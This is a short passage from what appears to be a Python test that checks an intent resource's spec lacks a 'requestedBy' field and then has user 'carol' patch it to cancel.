    assert "requestedBy" not in bare.get(f"intent/{unknown}")["spec"]
    bare.run("carol", *patch("intent", {"spec": {"cancel": True}})(unknown).args, check=True)
